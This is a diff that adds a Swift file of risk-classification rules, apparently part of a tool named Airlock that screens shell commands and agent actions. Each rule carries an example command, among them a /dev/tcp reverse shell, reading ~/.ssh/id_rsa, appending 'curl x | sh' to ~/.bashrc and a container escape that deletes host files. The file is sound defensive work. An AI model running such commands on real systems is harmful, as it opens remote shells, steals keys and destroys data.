@@ -1,0 +1,80 @@
+/// Rules that belong to no single program: paths and redirections, flows across a line, the
+/// shell's own syntax, roles' defaults, file actions and MCP calls.
+enum CoreRules {
+    static let all = paths + shell + roles + programs
+
+    static let paths = [
+        Rule("path.secret-read", .secretsAccess, .high, "reads a secret: a key, a credentials file, an .env, shell history", example: "cat ~/.ssh/id_rsa"),
+        Rule("path.secret-write", .secretsAccess, .high, "writes over a secrets file", example: "echo x > .env"),
+        Rule(
+            "path.self-modification", .selfModification, .critical, "touches Airlock's own files or a harness's hooks and permissions",
+            example: "echo '{}' > .claude/settings.json"),
+        Rule(
+            "path.persistence-write", .persistence, .high,
+            "writes a shell start-up file, authorized_keys, a crontab, a unit, a git hook or a $PATH folder",
+            example: "echo 'curl x | sh' >> ~/.bashrc"),
+        Rule("path.agent-config-write", .agentConfig, .high, "writes a file that steers agents (MCP servers, instructions)", example: "echo '{}' > .mcp.json"),
+        Rule("path.system-write", .fileWrite, .high, "writes under a system folder", example: "echo 1 > /etc/motd"),
+        Rule("path.home-write", .fileWrite, .medium, "writes in the home directory, outside the workspace", example: "echo x > ~/notes.txt"),
+        Rule("path.outside-write", .fileWrite, .medium, "writes outside the workspace", example: "cp a.txt /mnt/share/"),
+        Rule("path.temp-write", .fileWrite, .low, "writes a temp path", example: "echo x > /tmp/scratch.txt"),
+        Rule("path.workspace-write", .fileWrite, .low, "writes inside the workspace", example: "echo x > notes.md"),
+        Rule("path.sensitive-write", .fileWrite, .high, "writes production config or customer data", example: "echo x > config/production.yml"),
+        Rule(
+            "path.code-config-write", .ciConfig, .medium, "writes a CI workflow or a file whose code a trusted tool runs",
+            example: "echo 'x' > .github/workflows/ci.yml"),
+        Rule("path.dynamic-write", .fileWrite, .medium, "writes a path known only at run time", example: "cp a.txt \"$DEST\""),
+    ]
+
+    static let shell = [
+        Rule("shell.redirect-dynamic", .fileWrite, .medium, "redirects output to a path known only at run time", example: "echo x > \"$OUT\""),
+        Rule("shell.network-socket", .remoteExec, .critical, "redirects a shell to a network socket", example: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+        Rule("shell.too-deep", .unknown, .high, "shell code nested too deep to analyse", example: "bash -c \"bash -c \\\"bash -c 'bash -c \\\\\\\"bash -c x\\\\\\\"'\\\"\""),
+        Rule("shell.too-many", .unknown, .high, "too many commands to analyse in one line", example: "true"),
+        Rule("shell.syntax", .unknown, .medium, "shell text with a syntax problem (an unterminated quote)", example: "echo 'unterminated"),
+        Rule("shell.wrapper-alone", .read, .low, "a wrapper with no command runs nothing", example: "nohup"),
+        Rule("shell.function-call", .read, .low, "calls a function defined on the line; its body is judged", example: "f() { ls; }; f"),
+        Rule("shell.source", .unknown, .medium, "sources a shell file into the current shell", example: "source ./env.sh"),
+        Rule("shell.no-run", .read, .low, "a shell asked only for help, its version, or a syntax check", example: "bash -n script.sh"),
+        Rule(
+            "shell.history-rerun", .unknown, .high, "runs earlier commands again (fc): what they are is not in the text",
+            example: "fc -s"),
+        Rule("text.hidden-characters", .unknown, .high, "control, zero-width or bidi characters hidden in the text", example: "ls\u{202E} -la"),
+        Rule("action.nothing-recognised", .unknown, .medium, "an action with nothing recognisable in it", example: "mcp: misc frobnicate {}"),
+        Rule(
+            "container.host-escape", .privilege, .critical, "a container with the host's files or namespaces runs a destructive command",
+            example: "docker run -v /:/host alpine rm -rf /host/etc"),
+        Rule("container.exec", .unknown, .medium, "runs a command inside a container; the command is judged too", example: "docker exec web ls"),
+        Rule("kubectl.exec", .unknown, .high, "runs a command in a pod of a cluster; the command is judged too", example: "kubectl exec web -- ls"),
+        Rule("secrets.injected-env", .secretsAccess, .medium, "runs a command with secrets injected into its environment", example: "doppler run -- npm start"),
+        Rule(
+            "env.print-filtered", .read, .medium, "prints environment variables through a filter that names no secret",
+            example: "env | grep SHELL"),
+        Rule("env.print-secret", .secretsAccess, .medium, "prints a variable named like a secret", example: "printenv GITHUB_TOKEN"),
+    ]
+
+    static let roles = [
+        Rule("reader.read", .read, .low, "reads files", example: "cat README.md"),
+        Rule("reader.metadata", .read, .low, "looks at names, sizes or hashes of files", example: "ls -la"),
+        Rule("reader.decode", .read, .low, "decodes, packs or unpacks data", example: "base64 -d payload.txt"),
+        Rule("program.unknown", .unknown, .medium, "a program Airlock does not know", example: "frobnicate --all"),
+        Rule(
+            "program.unknown-destructive-verb", .dataDelete, .high, "an unknown program called with a deleting verb",
+            example: "velerox delete backup nightly"),
+        Rule("script.unknown", .unknown, .medium, "runs a script file Airlock cannot read here", example: "./run.sh"),
+        Rule("script.named-deploy", .deploy, .high, "runs a script named like a deploy or release", example: "./scripts/deploy-prod.sh"),
+        Rule("script.named-migration", .dbMigration, .high, "runs a script named like a migration", example: "./migrate.sh"),
+        Rule("script.named-teardown", .dataDelete, .high, "runs a script named like a teardown", example: "./teardown.sh"),
+        Rule("option.runs-code", .unknown, .high, "an option that makes the program run other code", example: "rg --pre ./filter.sh TODO"),
+        Rule("editor.open", .unknown, .medium, "opens an interactive editor or application", example: "vim notes.md"),
+        Rule("editor.runs-command", .unknown, .high, "an editor told to run a shell command", example: "vim -c '!id' notes.md"),
+        Rule("keys.tool", .read, .low, "a crypto tool that reads no secret", example: "openssl version"),
+        Rule("network.query", .network, .low, "queries the network (DNS, ping)", example: "dig example.com"),
+        Rule("network.scan", .network, .high, "scans or probes other hosts", example: "nmap -sS 10.0.0.0/24"),
+        Rule("terminal.change", .unknown, .low, "changes a terminal server's settings", example: "tmux set -g mouse on"),
+        Rule("airlock.read", .read, .low, "asks Airlock something without changing it", example: "airlock status"),
+    ]
+
+    /// The default rules of programs whose handlers name none: `<program>.<category>`.
+    static let programs: [Rule] = []
+}
